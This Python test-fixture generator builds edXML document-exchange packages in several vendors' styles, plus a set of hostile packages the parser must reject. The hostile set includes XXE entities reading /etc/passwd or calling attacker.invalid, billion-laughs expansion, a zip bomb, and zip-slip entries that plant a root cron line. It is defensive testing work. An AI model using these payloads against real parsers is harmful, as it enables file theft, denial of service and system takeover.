# ruff: noqa: E501  (the packages below are XML written out as producers write it: long lines are the data)
"""The edXML corpus: packages in each producer's style, hostile packages, golden vectors.

    python -m tests.vectors.edxml.generate     # rewrites corpus/, hostile/, golden/

Producer styles are written out by hand from EDXML.md (what VNPT's Java
library, Bkav, a .NET SDK and an LGSP facade send), each with its quirks;
zips are made by Python's ``zipfile`` (an implementation independent of the
codec's). Hostile packages are made by small functions here; the large ones
(deep nesting, many elements or attachments) are only generated, by the
tests, from the same functions. ``tests/protocol/test_edxml_corpus.py``
fails when these files stop being exactly what this script makes.

Regenerate golden/ only for a deliberate format change (and bump the CBOR
form's version in docs/edxml.md).
"""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from pathlib import Path

from tests.vectors.hexfile import to_hex_file

HERE = Path(__file__).resolve().parent
NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
DSIG = "http://www.w3.org/2000/09/xmldsig#"
AT = 1_795_000_000_000
WRAP_UUID = "5b0e1c3a-7f2d-4c1e-9a8b-2f6d3e4c5a1b"


def payload(seed: str, n: int) -> bytes:
    """Deterministic incompressible bytes."""
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}:{i}".encode()).digest()
        i += 1
    return bytes(out[:n])


def pdf(seed: str, n: int = 3000) -> bytes:
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + payload(seed, n) + b"\n%%EOF\n"


def b64(data: bytes, line: int | None = None, sep: str = "\n") -> str:
    s = base64.b64encode(data).decode()
    if line is None:
        return s
    return sep.join(s[i : i + line] for i in range(0, len(s), line))


class _Sink(io.RawIOBase):
    """A non-seekable stream, so zipfile writes data descriptors (as a streaming Java writer does)."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override]
        self.data += b
        return len(b)


def zip_files(files: list[tuple[str, bytes]], *, stream: bool = True, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    sink: io.RawIOBase | io.BytesIO = _Sink() if stream else io.BytesIO()
    with zipfile.ZipFile(sink, "w", method) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 22, 9, 30, 0))
            info.compress_type = method
            if stream:
                with z.open(info, "w") as f:
                    f.write(data)
            else:
                z.writestr(info, data)
    return bytes(sink.data) if isinstance(sink, _Sink) else sink.getvalue()


def docx(seed: str) -> bytes:
    """A minimal .docx: a zip container that must reach the recipient as is."""
    return zip_files(
        [
            (
                "[Content_Types].xml",
                b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            ),
            ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            ("word/document.xml", b"<w:document>" + payload(seed, 400).hex().encode() + b"</w:document>"),
        ],
        stream=False,
    )


# --- producer styles ------------------------------------------------------------------


def org(tag: str, code: str, name: str, p: str = "edXML:") -> str:
    return (
        f"<{p}{tag}><{p}OrganId>{code}</{p}OrganId><{p}OrganizationInCharge>Chính phủ</{p}OrganizationInCharge>"
        f"<{p}OrganName>{name}</{p}OrganName><{p}OrganAdd>1 Hoàng Hoa Thám, Hà Nội</{p}OrganAdd>"
        f"<{p}Email>vanthu@chinhphu.vn</{p}Email><{p}Telephone>0243.8043.100</{p}Telephone><{p}Fax></{p}Fax>"
        f"<{p}Website>chinhphu.vn</{p}Website></{p}{tag}>"
    )


VNPT_FILE = pdf("vnpt")


def vnpt_zipped() -> bytes:
    """VNPT's Java library: edXML: everywhere, its order, a placeholder Signature, every attachment zipped."""
    wrapped = zip_files([(f"{WRAP_UUID}.pdf", VNPT_FILE)])
    return f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<edXML:edXML xmlns:edXML="{NS}">
<edXML:edXMLEnvelope>
<edXML:edXMLHeader>
<edXML:MessageHeader>
{org("From", "000.00.00.G22", "Văn phòng Chính phủ")}
{org("To", "000.00.00.H29", "UBND Thành phố Hồ Chí Minh")}
{org("To", "000.00.00.H01", "UBND tỉnh An Giang")}
<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT</edXML:DocumentId>
<edXML:Code><edXML:CodeNumber>7816</edXML:CodeNumber><edXML:CodeNotation>VPCP-TTĐT</edXML:CodeNotation></edXML:Code>
<edXML:PromulgationInfo><edXML:Place>Hà Nội</edXML:Place><edXML:PromulgationDate>2015/09/30</edXML:PromulgationDate></edXML:PromulgationInfo>
<edXML:DocumentType><edXML:Type>1</edXML:Type><edXML:TypeDetail>0</edXML:TypeDetail><edXML:TypeName>Công văn</edXML:TypeName></edXML:DocumentType>
<edXML:Subject>V/v triển khai trục liên thông văn bản quốc gia</edXML:Subject>
<edXML:Content>Kính gửi các cơ quan &amp; đơn vị</edXML:Content>
<edXML:SignerInfo><edXML:Competence>KT. BỘ TRƯỞNG, CHỦ NHIỆM</edXML:Competence><edXML:Position>Phó Chủ nhiệm</edXML:Position><edXML:FullName>Nguyễn Văn A</edXML:FullName></edXML:SignerInfo>
<edXML:DueDate>2015/10/15</edXML:DueDate>
<edXML:ToPlaces><edXML:Place>Như trên</edXML:Place><edXML:Place>Lưu: VT, TTĐT</edXML:Place></edXML:ToPlaces>
<edXML:OtherInfo><edXML:Priority>1</edXML:Priority><edXML:SphereOfPromulgation>Toàn quốc</edXML:SphereOfPromulgation><edXML:TyperNotation>TH</edXML:TyperNotation><edXML:PromulgationAmount>1</edXML:PromulgationAmount><edXML:PageAmount>2</edXML:PageAmount><edXML:Direction>false</edXML:Direction><edXML:Appendixes><edXML:Appendix>Phụ lục I</edXML:Appendix></edXML:Appendixes></edXML:OtherInfo>
<edXML:SteeringType>1</edXML:SteeringType>
</edXML:MessageHeader>
<edXML:TraceHeaderList>
<edXML:TraceHeader><edXML:OrganId>000.00.00.G22</edXML:OrganId><edXML:Timestamp>2015/09/30 10:15:00</edXML:Timestamp></edXML:TraceHeader>
<edXML:Bussiness><edXML:BussinessDocType>0</edXML:BussinessDocType><edXML:BussinessDocReason></edXML:BussinessDocReason><edXML:Paper>0</edXML:Paper>
<edXML:StaffInfo><edXML:Department>Văn thư</edXML:Department><edXML:Staff>Trần Thị B</edXML:Staff><edXML:Email>b@chinhphu.vn</edXML:Email><edXML:Mobile>0912000000</edXML:Mobile></edXML:StaffInfo>
</edXML:Bussiness>
</edXML:TraceHeaderList>
<edXML:Signature><edXML:SignedInfo><edXML:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/><edXML:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/><edXML:Reference URI=""><edXML:DigestValue>AAAA</edXML:DigestValue></edXML:Reference></edXML:SignedInfo><edXML:SignatureValue>AAAA</edXML:SignatureValue></edXML:Signature>
</edXML:edXMLHeader>
<edXML:edXMLBody>
<edXML:edXMLManifest version="1.0">
<edXML:Reference><edXML:ContentId>cid:8a1f0c2e</edXML:ContentId><edXML:ContentType>application/zip</edXML:ContentType><edXML:Description>Văn bản</edXML:Description><edXML:AttachmentName>7816-VPCP-TTĐT.pdf</edXML:AttachmentName></edXML:Reference>
</edXML:edXMLManifest>
</edXML:edXMLBody>
</edXML:edXMLEnvelope>
<edXML:AttachmentEncoded>
<edXML:Attachment><edXML:ContentId>cid:8a1f0c2e</edXML:ContentId><edXML:AttachmentName>7816-VPCP-TTĐT.pdf</edXML:AttachmentName><edXML:Description>Văn bản</edXML:Description><edXML:ContentType>application/zip</edXML:ContentType><edXML:ContentTransferEncoded>{b64(wrapped)}</edXML:ContentTransferEncoded></edXML:Attachment>
</edXML:AttachmentEncoded>
</edXML:edXML>
""".encode()


BKAV_FILES = (pdf("bkav-1", 5000), payload("bkav-2", 1500))


def bkav() -> bytes:
    """Bkav's provincial port: default namespace on AttachmentEncoded and Signature, 'Business', raw files, lying types."""
    return f"""<?xml version="1.0" encoding="utf-8"?>
<edXML:edXML xmlns:edXML="{NS}">
  <edXML:edXMLEnvelope>
    <edXML:edXMLHeader>
      <edXML:MessageHeader>
        {org("From", "000.00.00.H29", "UBND Thành phố Hồ Chí Minh")}
        {org("To", "000.00.00.G22", "Văn phòng Chính phủ")}
        <edXML:DocumentId>000.00.00.H29,2026/11/20,1234/UBND-VX</edXML:DocumentId>
        <edXML:Code><edXML:CodeNumber>1234</edXML:CodeNumber><edXML:CodeNotation>UBND-VX</edXML:CodeNotation></edXML:Code>
        <edXML:PromulgationInfo><edXML:Place>TP. Hồ Chí Minh</edXML:Place><edXML:PromulgationDate>2026/11/20</edXML:PromulgationDate></edXML:PromulgationInfo>
        <edXML:DocumentType><edXML:Type>1</edXML:Type><edXML:TypeDetail>2</edXML:TypeDetail><edXML:TypeName>Báo cáo</edXML:TypeName></edXML:DocumentType>
        <edXML:Subject>Báo cáo tình hình thực hiện chỉ thị</edXML:Subject>
        <edXML:Content/>
        <edXML:SignerInfo><edXML:Competence>TM. ỦY BAN NHÂN DÂN</edXML:Competence><edXML:Position>Chủ tịch</edXML:Position><edXML:FullName>Lê Văn C</edXML:FullName></edXML:SignerInfo>
        <edXML:DueDate/>
        <edXML:SteeringType>3</edXML:SteeringType>
        <edXML:ToPlaces><edXML:Place>Như trên</edXML:Place></edXML:ToPlaces>
        <edXML:OtherInfo><edXML:Priority>0</edXML:Priority></edXML:OtherInfo>
      </edXML:MessageHeader>
      <edXML:TraceHeaderList>
        <edXML:TraceHeader><edXML:OrganId>000.00.00.H29</edXML:OrganId><edXML:Timestamp>2026/11/20 14:02:11</edXML:Timestamp></edXML:TraceHeader>
        <edXML:Business><edXML:BussinessDocType>0</edXML:BussinessDocType><edXML:BussinessDocReason/><edXML:Paper>0</edXML:Paper></edXML:Business>
      </edXML:TraceHeaderList>
      <Signature xmlns="{NS}"><SignedInfo/><SignatureValue>cGxhY2Vob2xkZXI=</SignatureValue></Signature>
    </edXML:edXMLHeader>
    <edXML:edXMLBody>
      <edXML:edXMLManifest version="1.0">
        <edXML:Reference><edXML:ContentId>cid:bao-cao</edXML:ContentId><edXML:ContentType>application/zip</edXML:ContentType><edXML:Description/><edXML:AttachmentName>Báo cáo.pdf</edXML:AttachmentName></edXML:Reference>
        <edXML:Reference><edXML:ContentId>cid:phu-luc</edXML:ContentId><edXML:ContentType>application/octet-stream</edXML:ContentType><edXML:Description>Số liệu</edXML:Description><edXML:AttachmentName>Phụ lục.bin</edXML:AttachmentName></edXML:Reference>
      </edXML:edXMLManifest>
    </edXML:edXMLBody>
  </edXML:edXMLEnvelope>
  <AttachmentEncoded xmlns="{NS}">
    <Attachment>
      <ContentId>cid:bao-cao</ContentId><AttachmentName>Báo cáo.pdf</AttachmentName><Description/><ContentType>application/zip</ContentType>
      <ContentTransferEncoded>{b64(BKAV_FILES[0], 76)}</ContentTransferEncoded>
    </Attachment>
    <Attachment>
      <ContentId>cid:phu-luc</ContentId><AttachmentName>Phụ lục.bin</AttachmentName><Description>Số liệu</Description><ContentType>application/octet-stream</ContentType>
      <ContentTransferEncoded><![CDATA[{b64(BKAV_FILES[1], 64)}]]></ContentTransferEncoded>
    </Attachment>
  </AttachmentEncoded>
</edXML:edXML>
""".encode()


DOTNET_FILE = pdf("dotnet", 2000)


def dotnet() -> bytes:
    """A .NET SDK: SOAP attributes on TraceHeaderList, xlink on Reference, empty DigitalSignature, ContentId without cid:."""
    soap = "http://schemas.xmlsoap.org/soap/envelope/"
    xlink = "http://www.w3.org/1999/xlink"
    return (
        f"""<?xml version="1.0" encoding="utf-8"?>\r
<edXML xmlns="{NS}" xmlns:SOAP-ENV="{soap}" xmlns:xlink="{xlink}">\r
<edXMLEnvelope><edXMLHeader><MessageHeader>{org("From", "000.00.00.G09", "Bộ Tài chính", "")}{org("To", "000.00.00.G22", "Văn phòng Chính phủ", "")}\r
<DocumentId>000.00.00.G09,2026/11/21,99/BTC-VP</DocumentId><Code><CodeNumber>99</CodeNumber><CodeNotation>BTC-VP</CodeNotation></Code>\r
<PromulgationInfo><Place>Hà Nội</Place><PromulgationDate>2026/11/21</PromulgationDate></PromulgationInfo>\r
<DocumentType><Type>1</Type><TypeDetail>0</TypeDetail><TypeName>Tờ trình</TypeName></DocumentType><Subject>Tờ trình về dự toán</Subject><Content></Content>\r
<SignerInfo><Competence>KT. BỘ TRƯỞNG</Competence><Position>Thứ trưởng</Position><FullName>Phạm Văn D</FullName></SignerInfo><DueDate></DueDate>\r
<ToPlaces/><OtherInfo><Priority>2</Priority></OtherInfo><SteeringType>1</SteeringType></MessageHeader>\r
<TraceHeaderList SOAP-ENV:id="trace" SOAP-ENV:version="1.0" SOAP-ENV:mustUnderstand="1" SOAP-ENV:actor="http://schemas.xmlsoap.org/soap/actor/next">\r
<TraceHeader><OrganId>000.00.00.G09</OrganId><Timestamp>2026/11/21 08:00:00</Timestamp></TraceHeader>\r
<Bussiness><BussinessDocType>0</BussinessDocType><BussinessDocReason></BussinessDocReason><Paper>0</Paper></Bussiness></TraceHeaderList>\r
<DigitalSignature/></edXMLHeader>\r
<edXMLBody><edXMLManifest version="1.0"><Reference xlink:href="cid:to-trinh" xlink:type="simple"><ContentId>cid:to-trinh</ContentId>\r
<ContentType>application/pdf</ContentType><Description>Tờ trình</Description><AttachmentName>To trinh 99.pdf</AttachmentName></Reference></edXMLManifest></edXMLBody>\r
</edXMLEnvelope>\r
<AttachmentEncoded><Attachment><ContentId>to-trinh</ContentId><AttachmentName>To trinh 99.pdf</AttachmentName><Description>Tờ trình</Description>\r
<ContentType>application/pdf</ContentType><ContentTransferEncoded>{b64(DOTNET_FILE, 76, chr(13) + chr(10))}</ContentTransferEncoded></Attachment></AttachmentEncoded>\r
</edXML>\r
"""
    ).encode()


LGSP_FILE = b"Noi dung van ban dang van ban thuan.\n" * 40


def lgsp() -> bytes:
    """An LGSP facade: dd/MM/yyyy, a UUID DocumentId, unknown elements, an empty ResponseFor, SteeringType 0, any order."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<ns2:edXML xmlns:ns2="{NS}" xmlns:lgsp="urn:lgsp:facade:1">
<ns2:edXMLEnvelope><ns2:edXMLHeader><ns2:MessageHeader>
<ns2:DocumentId>6f1c2d3e-4b5a-4c6d-8e7f-90a1b2c3d4e5</ns2:DocumentId>
{org("From", "000.00.00.H01", "UBND tỉnh An Giang", "ns2:")}
{org("To", "000.00.00.G22", "Văn phòng Chính phủ", "ns2:")}
<ns2:Subject>Về việc báo cáo số liệu (hạn 2014/02/30 theo văn bản mẫu)</ns2:Subject>
<ns2:Code><ns2:CodeNotation>UBND-KT</ns2:CodeNotation><ns2:CodeNumber>45</ns2:CodeNumber></ns2:Code>
<ns2:PromulgationInfo><ns2:PromulgationDate>22/11/2026</ns2:PromulgationDate><ns2:Place>An Giang</ns2:Place></ns2:PromulgationInfo>
<ns2:DocumentType><ns2:TypeName>Công văn</ns2:TypeName><ns2:Type>1</ns2:Type></ns2:DocumentType>
<ns2:SteeringType>0</ns2:SteeringType>
<ns2:ToPlaces><ns2:Place>Như trên</ns2:Place></ns2:ToPlaces>
<ns2:ResponseFor/>
<ns2:ResponseFor><ns2:OrganId>000.00.00.G22</ns2:OrganId><ns2:Code>7816/VPCP-TTĐT</ns2:Code><ns2:PromulgationDate>2014/02/30</ns2:PromulgationDate><ns2:DocumentId>000.00.00.G22,2014/02/30,7816/VPCP-TTĐT</ns2:DocumentId></ns2:ResponseFor>
<ns2:ResponseForTask><ns2:TaskCode>NV-2026-117</ns2:TaskCode></ns2:ResponseForTask>
<ns2:ApplicationType>LGSP</ns2:ApplicationType>
<ns2:OtherInfo><ns2:Priority>3</ns2:Priority><ns2:ReplyFors><ns2:ReplyFor>x</ns2:ReplyFor></ns2:ReplyFors><ns2:ReferenceCodes/></ns2:OtherInfo>
<ns2:SignerInfo><ns2:FullName>Hồ Văn E</ns2:FullName></ns2:SignerInfo>
<ns2:DueDate>05/12/2026</ns2:DueDate>
<lgsp:Tracking lgsp:channel="api" priority="high">LGSP-TRACK-0001<lgsp:Hop n="1"/></lgsp:Tracking>
</ns2:MessageHeader>
<ns2:TraceHeaderList><ns2:TraceHeader><ns2:OrganId>000.00.00.H01</ns2:OrganId><ns2:Timestamp>2026/11/22 16:45:30</ns2:Timestamp></ns2:TraceHeader>
<ns2:Bussiness><ns2:BussinessDocType>0</ns2:BussinessDocType><ns2:StaffInfo><ns2:DepartmentId>VP</ns2:DepartmentId><ns2:StaffId>42</ns2:StaffId></ns2:StaffInfo></ns2:Bussiness>
</ns2:TraceHeaderList></ns2:edXMLHeader>
<ns2:edXMLBody><ns2:edXMLManifest version="1.0"><ns2:Reference><ns2:ContentId>cid:1</ns2:ContentId><ns2:ContentType>text/plain</ns2:ContentType><ns2:AttachmentName>noi-dung.txt</ns2:AttachmentName></ns2:Reference></ns2:edXMLManifest></ns2:edXMLBody>
</ns2:edXMLEnvelope>
<ns2:AttachmentEncoded><ns2:Attachment><ns2:ContentTransferEncoded>{b64(LGSP_FILE)}</ns2:ContentTransferEncoded><ns2:ContentId>cid:1</ns2:ContentId><ns2:AttachmentName>noi-dung.txt</ns2:AttachmentName><ns2:ContentType>text/plain</ns2:ContentType></ns2:Attachment></ns2:AttachmentEncoded>
</ns2:edXML>
""".encode()


DOCX_FILE = docx("docx")
MULTI_ZIP = zip_files([("bao-cao/a.txt", b"A" * 100), ("bao-cao/b.txt", b"B" * 100)])
UUID_JPG_ZIP = zip_files([(f"{WRAP_UUID}.jpg", payload("jpg", 700))])


def containers() -> bytes:
    """Zip containers that must not be unwrapped: a .docx, a zip of two files, a user's zip holding one uuid-named .jpg."""
    files = [
        ("Du thao.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", DOCX_FILE),
        ("Ho so.zip", "application/zip", MULTI_ZIP),
        ("Anh.zip", "application/zip", UUID_JPG_ZIP),
    ]
    return edoc_with(files)


def edoc_with(
    files: list[tuple[str, str, bytes]],
    *,
    business: str = "<edXML:Bussiness><edXML:BussinessDocType>0</edXML:BussinessDocType></edXML:Bussiness>",
    extra_header: str = "",
    manifest: list[tuple[str, str]] | None = None,
    message_extra: str = "",
) -> bytes:
    """A small VNPT-shaped edoc with the given attachments (name, type, bytes)."""
    refs = manifest if manifest is not None else [(f"cid:{i + 1}", name) for i, (name, _, _) in enumerate(files)]
    ref_xml = "".join(
        f"<edXML:Reference><edXML:ContentId>{cid}</edXML:ContentId><edXML:ContentType>application/octet-stream</edXML:ContentType>"
        f"<edXML:Description/><edXML:AttachmentName>{name}</edXML:AttachmentName></edXML:Reference>"
        for cid, name in refs
    )
    att_xml = "".join(
        f"<edXML:Attachment><edXML:ContentId>cid:{i + 1}</edXML:ContentId><edXML:AttachmentName>{name}</edXML:AttachmentName>"
        f"<edXML:Description/><edXML:ContentType>{ctype}</edXML:ContentType>"
        f"<edXML:ContentTransferEncoded>{b64(data)}</edXML:ContentTransferEncoded></edXML:Attachment>"
        for i, (name, ctype, data) in enumerate(files)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><edXML:edXML xmlns:edXML="{NS}"><edXML:edXMLEnvelope><edXML:edXMLHeader>'
        f"<edXML:MessageHeader>{org('From', '000.00.00.G22', 'Văn phòng Chính phủ')}{org('To', '000.00.00.H29', 'UBND TP HCM')}"
        f"<edXML:DocumentId>000.00.00.G22,2026/11/22,15/VPCP-KSTT</edXML:DocumentId>"
        f"<edXML:Code><edXML:CodeNumber>15</edXML:CodeNumber><edXML:CodeNotation>VPCP-KSTT</edXML:CodeNotation></edXML:Code>"
        f"<edXML:Subject>Về việc thử nghiệm</edXML:Subject>{message_extra}</edXML:MessageHeader>"
        f"<edXML:TraceHeaderList>{business}</edXML:TraceHeaderList>{extra_header}</edXML:edXMLHeader>"
        f'<edXML:edXMLBody><edXML:edXMLManifest version="1.0">{ref_xml}</edXML:edXMLManifest></edXML:edXMLBody></edXML:edXMLEnvelope>'
        f"<edXML:AttachmentEncoded>{att_xml}</edXML:AttachmentEncoded></edXML:edXML>"
    ).encode()


def revoke() -> bytes:
    return edoc_with(
        [],
        business="<edXML:Bussiness><edXML:DocumentId>000.00.00.G22,2026/11/01,10/VPCP-KSTT</edXML:DocumentId>"
        "<edXML:BussinessDocType>1</edXML:BussinessDocType><edXML:BussinessDocReason>Ban hành nhầm</edXML:BussinessDocReason>"
        "<edXML:Paper>0</edXML:Paper></edXML:Bussiness>",
    )


def update() -> bytes:
    return edoc_with(
        [("Dinh chinh.pdf", "application/pdf", pdf("update", 500))],
        business="<edXML:Bussiness><edXML:DocumentId>000.00.00.G22,2026/11/01,10/VPCP-KSTT</edXML:DocumentId>"
        "<edXML:BussinessDocType>2</edXML:BussinessDocType><edXML:BussinessDocReason>Sai nơi nhận</edXML:BussinessDocReason>"
        "<edXML:Paper>0</edXML:Paper><edXML:BussinessDocumentInfo><edXML:DocumentInfo>0</edXML:DocumentInfo>"
        "<edXML:DocumentReceiver>1</edXML:DocumentReceiver><edXML:ReceiverList>"
        "<edXML:Receiver><edXML:OrganId>000.00.00.H01</edXML:OrganId><edXML:ReceiverType>0</edXML:ReceiverType></edXML:Receiver>"
        "<edXML:Receiver><edXML:OrganId>000.00.00.H29</edXML:OrganId><edXML:ReceiverType>1</edXML:ReceiverType></edXML:Receiver>"
        "</edXML:ReceiverList></edXML:BussinessDocumentInfo></edXML:Bussiness>",
    )


def replace_doc() -> bytes:
    return edoc_with(
        [("Thay the.pdf", "application/pdf", pdf("replace", 500))],
        business="<edXML:Bussiness><edXML:DocumentId>000.00.00.G22,2026/11/01,10/VPCP-KSTT</edXML:DocumentId>"
        "<edXML:BussinessDocType>3</edXML:BussinessDocType><edXML:BussinessDocReason>Thay thế</edXML:BussinessDocReason>"
        "<edXML:Paper>0</edXML:Paper><edXML:ReplacementInfoList><edXML:ReplacementInfo>"
        "<edXML:DocumentId>000.00.00.G22,2026/11/01,10/VPCP-KSTT</edXML:DocumentId>"
        "<edXML:OrganIdList><edXML:OrganId>000.00.00.H29</edXML:OrganId><edXML:OrganId>000.00.00.H01</edXML:OrganId></edXML:OrganIdList>"
        "</edXML:ReplacementInfo></edXML:ReplacementInfoList></edXML:Bussiness>",
    )


STATUS_DESCRIPTIONS = {
    1: "Đã đến",
    2: "Từ chối: gửi nhầm",
    3: "Đã vào sổ",
    4: "Đã phân công",
    5: "Đang xử lý",
    6: "Hoàn thành",
    13: "Đề nghị lấy lại văn bản",
    15: "Đồng ý",
    16: "Từ chối cập nhật",
}


def status(code: int) -> bytes:
    """A status package (EDXML.md §5): for 13 the original sender reports, otherwise the recipient."""
    sender, addressee = ("000.00.00.G22", "000.00.00.H29") if code == 13 else ("000.00.00.H29", "000.00.00.G22")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<edXML:edXML xmlns:edXML="{NS}"><edXML:edXMLEnvelope><edXML:edXMLHeader><edXML:MessageHeader>
{org("From", sender, "Cơ quan gửi trạng thái")}
<edXML:ResponseFor><edXML:OrganId>{addressee}</edXML:OrganId><edXML:Code>15/VPCP-KSTT</edXML:Code><edXML:PromulgationDate>2026/11/22</edXML:PromulgationDate><edXML:DocumentId>000.00.00.G22,2026/11/22,15/VPCP-KSTT</edXML:DocumentId></edXML:ResponseFor>
<edXML:StaffInfo><edXML:Department>Văn thư</edXML:Department><edXML:Staff>Ngô Văn F</edXML:Staff><edXML:Mobile>0987000000</edXML:Mobile><edXML:Email>f@hochiminhcity.gov.vn</edXML:Email></edXML:StaffInfo>
<edXML:StatusCode>{code:02d}</edXML:StatusCode>
<edXML:Description>{STATUS_DESCRIPTIONS[code]}</edXML:Description>
<edXML:Timestamp>2026/11/22 17:00:{code:02d}</edXML:Timestamp>
</edXML:MessageHeader></edXML:edXMLHeader></edXML:edXMLEnvelope></edXML:edXML>
""".encode()


def corpus() -> dict[str, bytes]:
    out = {
        "vnpt-zipped": vnpt_zipped(),
        "bkav": bkav(),
        "dotnet": dotnet(),
        "lgsp": lgsp(),
        "containers": containers(),
        "revoke": revoke(),
        "update": update(),
        "replace": replace_doc(),
    }
    for code in STATUS_DESCRIPTIONS:
        out[f"status-{code:02d}"] = status(code)
    return out


# --- hostile ------------------------------------------------------------------------


def _doctype(internal: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE edXML [\n{internal}\n]>\n<edXML:edXML xmlns:edXML="{NS}">&e;</edXML:edXML>\n'.encode()
    )


def billion_laughs() -> bytes:
    lines = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)] + ['<!ENTITY e "&l9;">']
    return _doctype("\n".join(lines))


def quadratic() -> bytes:
    return _doctype(f'<!ENTITY e "{"x" * 50_000}">').replace(b"&e;", b"&e;" * 2000)


def deep(n: int) -> bytes:
    return (f'<edXML:edXML xmlns:edXML="{NS}">' + "<a>" * n + "</a>" * n + "</edXML:edXML>").encode()


def many_elements(n: int) -> bytes:
    return (f'<edXML:edXML xmlns:edXML="{NS}"><x>' + "<y/>" * n + "</x></edXML:edXML>").encode()


def many_attachments(n: int) -> bytes:
    return edoc_with([(f"f{i}.txt", "text/plain", b"") for i in range(n)])


def zip_bomb() -> bytes:
    """20 MB of zeros deflated to ~20 kB in VNPT's wrapper form: a ratio near 1000."""
    bomb = zip_files([(f"{WRAP_UUID}.pdf", bytes(20 << 20))])
    return edoc_with([("bom.pdf", "application/zip", bomb)])


def _set_flag(zipped: bytes, flag: int) -> bytes:
    """Set a general-purpose flag on every local and central header (as an encrypting writer would)."""
    out = bytearray(zipped)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = out.find(sig)
        while i >= 0:
            out[i + off] |= flag
            i = out.find(sig, i + 4)
    return bytes(out)


def _corrupt_crc(zipped: bytes) -> bytes:
    z = bytearray(zipped)
    i = z.find(b"PK\x03\x04")
    z[i + 14] ^= 0xFF  # the CRC in the local header (no data descriptor here)
    j = z.find(b"PK\x01\x02")
    z[j + 16] ^= 0xFF
    return bytes(z)


def hostile() -> dict[str, tuple[bytes, str]]:
    """name -> (package bytes, the error class it must raise)."""
    ok_pdf = pdf("hostile", 300)
    wrapped = zip_files([(f"{WRAP_UUID}.pdf", ok_pdf)], stream=False)
    bad_b64 = edoc_with([("a.pdf", "application/pdf", ok_pdf)]).replace(
        b"<edXML:ContentTransferEncoded>", b"<edXML:ContentTransferEncoded>$", 1
    )
    after_pad = edoc_with([("a.pdf", "application/pdf", b"ab")]).replace(b"YWI=", b"YWI=YWI=")
    return {
        "billion-laughs": (billion_laughs(), "EdxmlForbiddenError"),
        "quadratic-blowup": (quadratic(), "EdxmlForbiddenError"),
        "xxe-file": (_doctype('<!ENTITY e SYSTEM "file:///etc/passwd">'), "EdxmlForbiddenError"),
        "xxe-http": (_doctype('<!ENTITY e SYSTEM "http://attacker.invalid/x">'), "EdxmlForbiddenError"),
        "xxe-parameter": (_doctype('<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;'), "EdxmlForbiddenError"),
        "doctype-external": (
            f'<?xml version="1.0"?><!DOCTYPE edXML SYSTEM "http://attacker.invalid/edxml.dtd"><edXML:edXML xmlns:edXML="{NS}"/>'.encode(),
            "EdxmlForbiddenError",
        ),
        "undeclared-entity": (f'<edXML:edXML xmlns:edXML="{NS}">&passwd;</edXML:edXML>'.encode(), "EdxmlSyntaxError"),
        "deep-nesting": (deep(100), "EdxmlLimitError"),
        "many-attributes": (
            (f'<edXML:edXML xmlns:edXML="{NS}"><x ' + " ".join(f'a{i}="1"' for i in range(40)) + "/></edXML:edXML>").encode(),
            "EdxmlLimitError",
        ),
        "huge-header-text": (edoc_with([], message_extra=f"<edXML:Content>{'x' * 70_000}</edXML:Content>"), "EdxmlLimitError"),
        "not-xml": (b"%PDF-1.4 this is not a package", "EdxmlSyntaxError"),
        "not-edxml-root": (
            b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>',
            "EdxmlNotEdxmlError",
        ),
        "wrong-namespace": (b'<edXML:edXML xmlns:edXML="http://example.invalid/edxml"/>', "EdxmlNotEdxmlError"),
        "no-namespace": (b"<edXML><edXMLEnvelope/></edXML>", "EdxmlNotEdxmlError"),
        "truncated": (edoc_with([("a.pdf", "application/pdf", ok_pdf)])[:-40], "EdxmlSyntaxError"),
        "bad-base64": (bad_b64, "EdxmlBase64Error"),
        "base64-after-padding": (after_pad, "EdxmlBase64Error"),
        "manifest-lists-missing": (
            edoc_with([("a.pdf", "application/pdf", ok_pdf)], manifest=[("cid:1", "a.pdf"), ("cid:2", "b.pdf")]),
            "EdxmlManifestError",
        ),
        "attachment-not-in-manifest": (edoc_with([("a.pdf", "application/pdf", ok_pdf)], manifest=[]), "EdxmlManifestError"),
        "zip-bomb": (zip_bomb(), "EdxmlZipBombError"),
        "zip-slip": (
            edoc_with([("a.zip", "application/zip", zip_files([("../../etc/cron.d/x", b"* * * * * root sh")]))]),
            "EdxmlUnsafeNameError",
        ),
        "zip-absolute": (edoc_with([("a.zip", "application/zip", zip_files([("/etc/passwd", b"x")]))]), "EdxmlUnsafeNameError"),
        "zip-backslash": (
            edoc_with([("a.zip", "application/zip", zip_files([("..\\..\\win.ini", b"x")]))]),
            "EdxmlUnsafeNameError",
        ),
        # zipfile cuts names at NUL, so the name is patched in afterwards
        "zip-nul": (
            edoc_with([("a.zip", "application/zip", zip_files([("a.pdfX.txt", b"x")]).replace(b"a.pdfX.txt", b"a.pdf\x00.txt"))]),
            "EdxmlUnsafeNameError",
        ),
        "zip-encrypted": (edoc_with([("a.pdf", "application/zip", _set_flag(wrapped, 0x01))]), "EdxmlZipError"),
        "zip-crc": (edoc_with([("a.pdf", "application/zip", _corrupt_crc(wrapped))]), "EdxmlZipError"),
